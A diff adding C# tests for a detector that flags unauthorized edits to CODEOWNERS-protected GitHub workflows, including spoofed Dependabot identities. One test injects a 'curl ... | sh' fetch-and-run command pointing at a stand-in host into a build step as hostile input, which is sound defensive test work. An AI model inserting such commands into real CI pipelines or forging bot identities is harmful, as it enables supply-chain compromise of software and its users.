@@ -157,6 +157,75 @@ public sealed class UnauthorizedAuthorDetectorTests : IDisposable
             Assert.Single(history.Findings, f => f.Category == Categories.UnauthorizedAuthor).Explanation, StringComparison.Ordinal);
     }
 
+    // psf/requests' shape: CODEOWNERS gives the workflows to two maintainers by handle, and Dependabot's github-actions updates
+    // (its documented identity, committed by a maintainer) move one pinned SHA and its quoted form.
+    private const string Publish = """
+        name: Publish
+        on:
+          release:
+            types: [published]
+        jobs:
+          build:
+            runs-on: ubuntu-latest
+            steps:
+              - uses: "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"
+              - name: "Build dists"
+                run: |
+                  python -m pip install build
+                  python -m build
+              - name: "Upload dists"
+                uses: "actions/upload-artifact@b7c566a772e6b6bfb58ed0dc250532a479d7789f"
+                with:
+                  name: "dist"
+                  path: "dist/"
+
+        """;
+
+    private const string Dependabot = "dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com>";
+
+    private static async Task<List<Finding>> ScanOwnedWorkflowAsync(string author, string changed)
+    {
+        using var repo = new TestRepository();
+        repo.Write(".github/CODEOWNERS", "# Maintainers\n.github/workflows/ @nateprewitt @sigmavirus24\n").Write(".github/workflows/publish.yml", Publish)
+            .Commit("publish workflow", "Nate Prewitt <nate.prewitt@gmail.com>");
+        repo.Write(".github/workflows/publish.yml", changed).Commit("Bump actions/upload-artifact from 6.0.0 to 7.0.0", author);
+        var result = await Scan.RunAsync(repo.Path);
+        return [.. result.Findings.Where(f => f.Category == Categories.UnauthorizedAuthor)];
+    }
+
+    private static readonly string Bumped = Publish.Replace("b7c566a772e6b6bfb58ed0dc250532a479d7789f", "bbbca2ddaa5d8feaa63e36b76fdaad77386f024f", StringComparison.Ordinal);
+
+    [Fact]
+    public async Task Dependabot_moving_a_pinned_action_in_a_workflow_codeowners_gives_to_maintainers_is_a_dependency_update()
+    {
+        Assert.Empty(await ScanOwnedWorkflowAsync(Dependabot, Bumped));
+    }
+
+    [Fact]
+    public async Task The_dependabot_identity_changing_what_a_step_runs_is_still_not_authorized()
+    {
+        var changed = Bumped.Replace("python -m build", "python -m build && curl -sSf https://x.example/i.sh | sh", StringComparison.Ordinal);
+
+        var finding = Assert.Single(await ScanOwnedWorkflowAsync(Dependabot, changed));
+
+        Assert.Equal(Severity.Medium, finding.Severity);
+        Assert.Equal(
+            "CODEOWNERS gives .github/workflows/publish.yml (rule '.github/workflows/') to @nateprewitt @sigmavirus24, and the author dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com> is none of them. "
+            + "The machine identity dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com> changed .github/workflows/publish.yml, which it never did before: bots update dependencies, people change pipelines.",
+            finding.Explanation);
+    }
+
+    [Fact]
+    public async Task A_bot_name_with_another_accounts_address_moving_a_pinned_action_is_still_judged_against_codeowners()
+    {
+        // The name is Dependabot's, the no-reply address another account's (the documented one is 49699333+dependabot[bot]).
+        var finding = Assert.Single(await ScanOwnedWorkflowAsync("dependabot[bot] <50123456+dependabot[bot]@users.noreply.github.com>", Bumped));
+
+        Assert.Equal(
+            "CODEOWNERS gives .github/workflows/publish.yml (rule '.github/workflows/') to @nateprewitt @sigmavirus24, and the author dependabot[bot] <50123456+dependabot[bot]@users.noreply.github.com> is none of them.",
+            finding.Explanation);
+    }
+
     [Fact]
     public async Task A_push_by_someone_who_is_neither_author_nor_committer_is_reported_from_the_webhook()
     {
